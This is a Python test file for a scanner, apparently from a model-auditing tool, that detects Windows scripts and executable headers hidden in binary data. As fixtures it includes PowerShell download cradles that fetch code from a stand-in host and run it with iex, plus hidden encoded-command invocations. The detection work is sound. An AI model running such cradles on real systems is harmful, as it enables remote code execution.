"""Scripts of Windows, portable executables and headers alone: what counts, and what is only a word about them."""

import base64
import random
import struct

import pytest

from fixtures import executables
from modelaudit.parsers.executables import header, structure
from modelaudit.parsers.executables.search import Search, signatures
from modelaudit.parsers.reader import BytesReader


def found(data: bytes) -> list[tuple[str, int]]:
    reader = BytesReader(data)
    search = Search(len(data)).whole(reader)
    programs = [structure(signature.check, reader, at) for at, signature in search.hits]
    return sorted({(one.kind, one.start) for one in programs if one is not None})


SCRIPTS = {
    "cradle": ("powershell", b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"),
    "fetched": ("powershell", b"$x = Invoke-WebRequest http://x.example/a; iex $x.Content"),
    "decoded": ("powershell", b"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobw==')))"),
    "encoded": (
        "powershell",
        b"powershell.exe -nop -w hidden -enc " + base64.b64encode("Write-Output one".encode("utf-16-le")),
    ),
    "encoded in full": (
        "powershell",
        b"pwsh -EncodedCommand " + base64.b64encode("Write-Output one".encode("utf-16-le")),
    ),
    "batch": ("batch", b"@echo off\r\nset A=1\r\ncall other.cmd\r\nexit /b 0\r\n"),
    "vbscript": ("vbscript", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe", 0\r\n'),
    "jscript": ("jscript", b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n"),
    "hta": ("hta", b'<html><head><HTA:APPLICATION ID="x"/><script language="VBScript">Close</script></head></html>'),
}


@pytest.mark.parametrize("name", SCRIPTS)
@pytest.mark.parametrize("before", [b"", b"\0\1\2\3"])
def test_a_script_is_found(name: str, before: bytes) -> None:
    kind, text = SCRIPTS[name]
    assert found(before + text + b"\0\xff\0") == [(kind, len(before))]


@pytest.mark.parametrize(
    "text",
    [
        b"client.DownloadString('http://x.example/a')",
        b"[Convert]::FromBase64String('ZWNobw==')",
        b"Use Invoke-WebRequest to fetch the file and look at it.",
        b"the switch -EncodedCommand of powershell",
        b"powershell -enc AAAAAAAAAAAAAAAAAAAAAAAA",
        b"ffmpeg -i a -enc x264",
        b"print(x) @echo off\nset\nset\n",
        b"@echo off",
        b"@echo off\nis the first line of many batch files, and it is\nordinary\n",
        b'CreateObject("Excel.Application").Run',
        b'CreateObject("WScript.Shell") is how a script reaches the shell',
        b"CreateObject(name)",
        b"if (window.ActiveXObject) { new ActiveXObject(prog); }",
        b"<HTA:APPLICATION is a tag",
        b'"DownloadString", 1\n"Invoke-Expression", 2\n' + b'"word", 3\n' * 200 + b'"| iex", 4\n',
    ],
)
def test_words_of_scripts_alone_are_nothing(text: str) -> None:
    assert found(text) == []


def test_two_words_far_apart_are_no_command() -> None:
    assert found(b"DownloadString" + b" word" * 300 + b" iex") == []
    assert found(b"iex\0.DownloadString(x)") == []


def ape(*, ident: bytes = b"\x7fELF\x02\x01\x01\x09" + bytes(8), machine: int = 62) -> bytes:
    elf = (ident + struct.pack("<HHI", 2, machine, 1)).ljust(64, b"\0")
    octal = "".join(f"\\{byte:03o}" if byte not in b"ELF" else chr(byte) for byte in elf)
    return b"MZqFpD='\n'\nprintf '" + octal.encode() + b"' >&7\nexec 7<&-\n"


def test_portable_executables() -> None:
    assert found(b"\0" + ape()) == [("ape", 1)]
    assert found(ape().replace(b"MZqFpD", b"jartsr")) == [("ape", 0)]
    assert found(ape(machine=4711)) == []
    assert found(ape(ident=bytes(16))) == []
    assert found(b"MZqFpD='\n'\n" + b"echo one\n" * 900) == []
    assert found(b"MZqFpD='x'" + ape()[8:]) == []


def test_a_portable_executable_by_its_other_header() -> None:
    head = bytearray(b"MZqFpD='\n".ljust(60, b" ") + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(40))
    assert found(bytes(head)) == [("ape", 0)]


@pytest.mark.parametrize("size", [0, 80 * 1024 * 1024])
def test_android_programs_of_any_size(size: int) -> None:
    data = b"\xff" + executables.dex(filling=size)
    assert structure("dex", BytesReader(data), 1) is not None
    assert structure("dex", BytesReader(data[:-1]), 1) is None


@pytest.mark.parametrize("kind", ["pe", "elf", "macho"])
def test_a_header_alone(kind: str) -> None:
    whole = executables.PROGRAMS[kind]()
    data = b"\0" * 8 + whole[: 380 if kind == "pe" else 110]
    reader = BytesReader(data)
    (at, check) = next((at, one.check) for at, one in Search(len(data)).whole(reader).hits if one.check == kind)
    assert structure(check, reader, at) is None
    told = header(check, reader, at)
    assert told is not None
    assert (told.kind, told.start, told.size, told.whole) == (kind, 8, len(data) - 8, False)


def test_chance_has_no_header() -> None:
    choose = random.Random(4)
    for signature in signatures():
        for _ in range(200):
            data = choose.randbytes(70) + signature.magic + choose.randbytes(200)
            assert header(signature.check, BytesReader(data), 70) is None
